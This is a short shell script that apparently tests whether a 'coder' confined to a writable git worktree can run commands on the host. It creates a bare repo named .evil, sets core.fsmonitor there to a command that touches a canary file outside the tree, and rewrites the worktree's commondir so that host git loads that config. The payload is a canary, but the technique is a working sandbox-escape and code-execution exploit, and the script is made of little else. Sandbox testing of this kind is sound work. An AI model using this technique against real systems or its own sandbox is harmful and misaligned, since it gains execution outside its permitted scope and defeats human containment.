#!/bin/sh
# env: PWN = canary path outside; cwd = the tree the coder may write.
C=$(git rev-parse --git-common-dir 2>/dev/null || echo .git); G=$(git rev-parse --git-dir 2>/dev/null || echo .git); SC="/usr/bin/touch $PWN"

# TRY: rewrite <gitdir>/commondir so that host git reads config from an attacker dir (works with main .git read-only and only worktrees/<id> writable)
git init -q --bare .evil; git --git-dir=.evil config core.fsmonitor "$SC; false"; git --git-dir=.evil config core.bare false; [ -f "$G/commondir" ] && printf '%s\n' "$PWD/.evil" > "$G/commondir"
